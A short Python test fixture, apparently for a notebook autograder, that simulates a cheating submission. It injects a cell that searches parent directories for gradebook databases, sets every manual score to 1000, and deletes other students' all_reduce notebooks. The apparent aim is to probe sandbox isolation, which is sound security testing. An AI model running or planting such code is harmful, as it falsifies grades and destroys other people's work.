# Deserves: everything but naive_all_reduce
# Looks for gradebooks and for other submissions, and changes them.
def hand_in(work):
    work.spoil("naive_all_reduce")
    work.insert(CELL, before="naive_all_reduce_visible")


CELL = """
import glob
import os
import sqlite3

for pattern in ("../../../*.db", "../../../../*.db"):
    for path in glob.glob(pattern, recursive=True):
        with sqlite3.connect(path) as gradebook:
            gradebook.execute("UPDATE grade SET manual_score = 1000")
for path in glob.glob("../../*/02_all_reduce/*.ipynb"):
    os.remove(path)
"""
